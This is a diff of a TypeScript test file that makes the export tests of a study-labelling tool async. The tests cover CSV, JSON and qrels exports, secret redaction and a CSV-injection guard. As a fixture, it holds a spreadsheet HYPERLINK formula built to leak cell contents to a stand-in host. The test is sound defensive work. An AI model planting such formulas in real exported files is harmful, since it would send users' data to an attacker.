@@ -69,7 +69,7 @@ const HOSTILE = '=HYPERLINK("http://x/?leak="&B3&C3,"Click")';
 
 beforeAll(async () => {
   server = await startScriptedServer(() => ({ json: { keep: [0] } }));
-  importStudyFolder(db, path.resolve(__dirname, "../../examples/memory-study"), "s");
+  await importStudyFolder(db, path.resolve(__dirname, "../../examples/memory-study"), "s");
   const [q, q2] = listStudyQueries(db, "s");
   upsertStudyQueries(db, "s", [
     { queryId: q.queryId, text: TRICKY },
@@ -93,8 +93,8 @@ beforeAll(async () => {
 afterAll(() => server.close());
 
 describe("a study's export", () => {
-  it("labels CSV parses back to the stored labels, one row per label, with the query text, source and time", () => {
-    const out = exportStudy(db, "s", { what: "labels", format: "csv" }, {});
+  it("labels CSV parses back to the stored labels, one row per label, with the query text, source and time", async () => {
+    const out = await exportStudy(db, "s", { what: "labels", format: "csv" }, {});
     expect(out.contentType).toBe("text/csv; charset=utf-8");
     expect(out.filename).toBe("s-labels.csv");
     const { header, rows } = records(out.body);
@@ -123,10 +123,10 @@ describe("a study's export", () => {
     expect([human.relevant, human.query_text]).toEqual(["no", TRICKY]);
   });
 
-  it("no text cell starts a formula (OWASP's CSV-injection guard) in the labels and metrics CSV", () => {
+  it("no text cell starts a formula (OWASP's CSV-injection guard) in the labels and metrics CSV", async () => {
     const formula = /^[=+\-@\t\r]/;
-    const labels = exportStudy(db, "s", { what: "labels", format: "csv" }, {}).body;
-    const metrics = exportStudy(db, "s", { what: "metrics", format: "csv" }, settings().prices).body;
+    const labels = (await exportStudy(db, "s", { what: "labels", format: "csv" }, {})).body;
+    const metrics = (await exportStudy(db, "s", { what: "metrics", format: "csv" }, settings().prices)).body;
     for (const body of [labels, metrics])
       for (const r of records(body).rows)
         for (const [k, v] of Object.entries(r)) expect(v, `${k}: ${v}`).not.toMatch(formula);
@@ -136,7 +136,7 @@ describe("a study's export", () => {
     expect(metrics).toContain(quoted(`-${HOSTILE}`));
     expect(records(metrics).rows.some((r) => r.configuration === `'-${HOSTILE}`)).toBe(true);
     // the JSON export is exact text: the guard belongs to CSV only
-    const json = exportStudy(db, "s", { what: "metrics", format: "json" }, settings().prices).body;
+    const json = (await exportStudy(db, "s", { what: "metrics", format: "json" }, settings().prices)).body;
     expect(
       JSON.parse(json).configurations.some(
         (c: { configuration: string }) => c.configuration === `-${HOSTILE}`,
@@ -144,8 +144,8 @@ describe("a study's export", () => {
     ).toBe(true);
   });
 
-  it("labels as qrels are the labelled queries' judgments, as export-qrels writes them", () => {
-    const out = exportStudy(db, "s", { what: "labels", format: "qrels" }, {});
+  it("labels as qrels are the labelled queries' judgments, as export-qrels writes them", async () => {
+    const out = await exportStudy(db, "s", { what: "labels", format: "qrels" }, {});
     expect(out.contentType).toBe("text/plain; charset=utf-8");
     const qrels = parseQrels(out.body);
     const n = [...qrels.values()].reduce((a, m) => a + m.size, 0);
@@ -153,14 +153,14 @@ describe("a study's export", () => {
     expect(n).toBeGreaterThan(0);
   });
 
-  it("metrics CSV and JSON carry studyReport's figures, one row per configuration", () => {
-    const report = studyReport(db, "s", settings().prices);
-    const csv = exportStudy(db, "s", { what: "metrics", format: "csv" }, settings().prices);
+  it("metrics CSV and JSON carry studyReport's figures, one row per configuration", async () => {
+    const report = await studyReport(db, "s", settings().prices);
+    const csv = await exportStudy(db, "s", { what: "metrics", format: "csv" }, settings().prices);
     const { header, rows } = records(csv.body);
     expect(header).toEqual([...METRIC_COLUMNS]);
     expect(rows).toHaveLength(report.experiments.length);
     const json = JSON.parse(
-      exportStudy(db, "s", { what: "metrics", format: "json" }, settings().prices).body,
+      (await exportStudy(db, "s", { what: "metrics", format: "json" }, settings().prices)).body,
     );
     expect(json.configurations).toHaveLength(2);
     const cell = (x: number) => (Number.isFinite(x) ? String(x) : "");
@@ -197,7 +197,7 @@ describe("a study's export", () => {
     expect(rows.find((x) => x.kind === "bm25")?.precision_judge_answered).toBe("");
   });
 
-  it("a secret in a query's text is redacted in the labels CSV, as in every export", () => {
+  it("a secret in a query's text is redacted in the labels CSV, as in every export", async () => {
     const KEY = "sk-study-export-canary-0a1b2c3d4e";
     process.env.JURY_STUDYEXPORT_API_KEY = KEY;
     markSecretEnv("JURY_STUDYEXPORT_API_KEY"); // seen at once (process.env is rescanned once a second)
@@ -205,7 +205,7 @@ describe("a study's export", () => {
       const [q] = listStudyQueries(db, "s");
       const before = listStudyQueries(db, "s").find((x) => x.queryId === q.queryId)?.text ?? "";
       upsertStudyQueries(db, "s", [{ queryId: q.queryId, text: `my key is ${KEY}` }]);
-      const csv = exportStudy(db, "s", { what: "labels", format: "csv" }, {}).body;
+      const csv = (await exportStudy(db, "s", { what: "labels", format: "csv" }, {})).body;
       expect(csv).not.toContain(KEY);
       expect(csv).toContain("my key is [redacted]");
       upsertStudyQueries(db, "s", [{ queryId: q.queryId, text: before }]);
@@ -214,10 +214,12 @@ describe("a study's export", () => {
     }
   });
 
-  it("an unknown collection is not_found, naming the ones there are", () => {
-    expect(() => exportStudy(db, "nope", { what: "labels", format: "csv" }, {})).toThrow(
+  it("an unknown collection is not_found, naming the ones there are", async () => {
+    await expect(exportStudy(db, "nope", { what: "labels", format: "csv" }, {})).rejects.toThrow(
       /No collection "nope" \(there are: s\)/,
     );
-    expect(() => exportStudy(db, "nope", { what: "metrics", format: "csv" }, {})).toThrow(/No collection/);
+    await expect(exportStudy(db, "nope", { what: "metrics", format: "csv" }, {})).rejects.toThrow(
+      /No collection/,
+    );
   });
 });
